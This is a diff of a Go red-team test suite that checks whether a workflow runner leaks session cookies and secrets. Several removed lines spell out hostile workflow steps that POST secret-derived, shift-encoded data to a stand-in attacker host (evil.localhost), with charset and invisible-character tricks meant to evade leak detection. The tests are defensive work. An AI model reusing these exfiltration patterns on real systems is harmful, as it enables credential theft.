@@ -113,25 +113,15 @@ func TestRedteamRunEchoUnderCharsetOrHeaderName(t *testing.T) {
 	evil := newRecorder(t)
 	services, secrets := serviceFiles(t, p.srv.URL)
 	port := portOf(t, evil.srv.URL)
-	// The bytes of the characters, little and big endian.
-	bytesOf := `(explode | map([. % 256, ((. - (. % 256)) / 256)]) | flatten | map(select(. > 0)) | implode) + " " + ` +
-		`(explode | map([((. - (. % 256)) / 256), . % 256]) | flatten | map(select(. > 0)) | implode)`
-	for name, get := range map[string]string{
-		"utf16":    "  - request: {service: portal, path: /utf16}\n  - jq: '.body | " + bytesOf + "'\n",
-		"utf16odd": "  - request: {service: portal, path: /utf16odd}\n  - jq: '.body | " + bytesOf + "'\n",
-		"gb":       "  - request: {service: portal, path: /gb}\n  - jq: '.body'\n",
-		"meta":     "  - request: {service: portal, path: /meta}\n  - html: {select: p}\n  - jq: '.[0]'\n",
-		"hdr":      "  - request: {service: portal, path: /hdr}\n  - jq: '.headers | keys | join(\",\")'\n",
-		"wrapped":  "  - request: {service: portal, path: /wrapped}\n  - jq: '.body | gsub(\"[\\r\\n]\"; \"\") | . as $b | try @base64d catch $b'\n",
-		"wbr":      "  - request: {service: portal, path: /wbr}\n  - html: {select: p}\n  - jq: '.[0] | gsub(\"\\u200b\"; \"\")'\n",
-		"folded":   "  - request: {service: portal, path: /folded}\n  - jq: '.body | gsub(\"\\n\"; \"\")'\n",
-	} {
+	// The documents are testdata/hostile/charset-NAME (the
+	// non-interference property runs them too): each recovers what it can
+	// (the bytes of UTF-16 characters, little and big endian; the header
+	// names; the base64 unwrapped; the breaks removed), stores it, sends
+	// it shifted to the attacker and returns it.
+	for _, name := range []string{"utf16", "utf16odd", "gb", "meta", "hdr", "wrapped", "wbr", "folded"} {
 		t.Run(name, func(t *testing.T) {
 			home := t.TempDir()
-			doc := attackDoc(t, port, get+"    as: s\n"+
-				"  - kv_set: {key: k, value: '$s'}\n"+
-				"  - request: {url: 'http://evil.localhost:"+port+"/x', method: POST, body: '${ $s | "+shiftDef+" shift }'}\n"+
-				"  - return: '$s'\n")
+			doc := hostileDoc(t, "charset-"+name, port)
 			r := harness(t, home, nil, "run", doc, "t", "--services", services, "--secrets", secrets, "--trace",
 				"--resolve", "evil.localhost:"+port+":127.0.0.1")
 			require.Equal(t, 0, r.code, r.stderr)
@@ -162,8 +152,8 @@ func TestRedteamRunRedirectsAndRetriesDoNotMultiplyRequests(t *testing.T) {
 		w.WriteHeader(http.StatusServiceUnavailable)
 	})
 	services, secrets := serviceFiles(t, p.srv.URL)
-	doc := attackDoc(t, "1", "  - jq: '[range(60)]'\n  - foreach:\n      in: .\n      steps:\n"+
-		"        - request: {service: portal, path: /r, query: {n: '0'}, retry: {attempts: 5, backoff: 1ms}}\n  - return: 'length'\n")
+	// 60 requests to /r?n=0, each retried up to 5 times.
+	doc := hostileDoc(t, "redirect-retries", "1")
 	r := harness(t, t.TempDir(), nil, "run", doc, "t", "--services", services, "--secrets", secrets)
 	require.Equal(t, 1, r.code, r.stderr)
 	require.Empty(t, r.stdout)
@@ -181,10 +171,12 @@ func TestRedteamRunRedirectsAndRetriesDoNotMultiplyRequests(t *testing.T) {
 func TestRedteamRunErrorPreviewHidesSessionStart(t *testing.T) {
 	p := echoPortal(t)
 	services, secrets := serviceFiles(t, p.srv.URL)
-	for _, misuse := range []string{"{a: .} | .[0]", "[\"x\", .] | .a", "{x: .} | . - 1", "{(\"kkkk\" + .): 1} | .[0]", "\"Bearer \" + . | .a"} {
-		doc := attackDoc(t, "1", "  - request: {service: portal, path: /half1}\n    as: a\n  - request: {service: portal, path: /half2}\n"+
-			"  - jq: '$a.body + .body'\n  - jq: '"+misuse+"'\n")
-		r := harness(t, t.TempDir(), nil, "run", doc, "t", "--services", services, "--secrets", secrets, "--trace")
+	// testdata/hostile/error-preview: tools m1 to m5 misuse the value
+	// ({a: .} | .[0], ["x", .] | .a, {x: .} | . - 1, {("kkkk" + .): 1} | .[0],
+	// "Bearer " + . | .a).
+	doc := hostileDoc(t, "error-preview", "1")
+	for _, tool := range []string{"m1", "m2", "m3", "m4", "m5"} {
+		r := harness(t, t.TempDir(), nil, "run", doc, tool, "--services", services, "--secrets", secrets, "--trace")
 		require.Equal(t, 1, r.code, r.stderr)
 		require.Contains(t, r.stderr, " ...", "the message shows a cut preview")
 		requireNoLeak(t, "stderr", r.stderr)
@@ -198,15 +190,13 @@ func TestRedteamRunErrorPreviewHidesSessionStart(t *testing.T) {
 func TestRedteamRunInvisibleCharacterJoinsNothing(t *testing.T) {
 	p := echoPortal(t)
 	services, secrets := serviceFiles(t, p.srv.URL)
-	halves := "  - request: {service: portal, path: /half1}\n    as: a\n  - request: {service: portal, path: /half2}\n    as: b\n"
-	for _, sep := range []string{`\u202e`, `\u0007`, `\u2069`} {
-		joined := `$a.body + \"` + sep + `\" + $b.body`
-		doc := attackDoc(t, "1", halves+
-			"  - kv_set: {key: v, value: \""+joined+"\"}\n"+
-			"  - kv_set: {key: \"k-${ "+joined+" }\", value: '1'}\n"+
-			"  - jq: \"("+joined+") | error\"\n")
+	// testdata/hostile/invisible-join: tools j1, j2, j3 join the halves
+	// with \u202e, \u0007 and \u2069, store the value and a key holding
+	// it, and fail with it as jq's error.
+	doc := hostileDoc(t, "invisible-join", "1")
+	for _, sep := range []string{"j1", "j2", "j3"} {
 		home := t.TempDir()
-		r := harness(t, home, nil, "run", doc, "t", "--services", services, "--secrets", secrets, "--trace")
+		r := harness(t, home, nil, "run", doc, sep, "--services", services, "--secrets", secrets, "--trace")
 		require.Equal(t, 1, r.code, r.stderr)
 		require.Contains(t, r.stderr, "step 5 (jq)")
 		kv, err := os.ReadFile(filepath.Join(home, "community", "kv", "atk.json"))
@@ -390,11 +380,9 @@ func TestRedteamRunNamedEntitiesInHTML(t *testing.T) {
 	port := portOf(t, evil.srv.URL)
 	dir := t.TempDir()
 	services, secrets := filepath.Join(dir, "services.yaml"), filepath.Join(dir, "secrets.yaml")
-	require.NoError(t, os.WriteFile(services, []byte("portal:\n  origin: "+srv.URL+"\n  auth:\n    cookies: [PHPSESSID]\n"), 0o644))
-	require.NoError(t, os.WriteFile(secrets, []byte("portal:\n  cookies: {PHPSESSID: \""+jwt+"\"}\n"), 0o600))
-	doc := attackDoc(t, port, "  - request: {service: portal, path: /me}\n  - html: {select: td}\n    as: s\n"+
-		"  - request: {url: 'http://evil.localhost:"+port+"/x', method: POST, body: '${ $s | join(\" \") | "+shiftDef+" shift }'}\n"+
-		"  - return: '$s'\n")
+	require.NoError(t, os.WriteFile(services, []byte("jwt:\n  origin: "+srv.URL+"\n  auth:\n    cookies: [PHPSESSID]\n"), 0o644))
+	require.NoError(t, os.WriteFile(secrets, []byte("jwt:\n  cookies: {PHPSESSID: \""+jwt+"\"}\n"), 0o600))
+	doc := hostileDoc(t, "jwt-entities", port) // its service is named jwt
 	r := harness(t, t.TempDir(), nil, "run", doc, "t", "--services", services, "--secrets", secrets, "--trace",
 		"--resolve", "evil.localhost:"+port+":127.0.0.1")
 	require.Equal(t, 0, r.code, r.stderr)
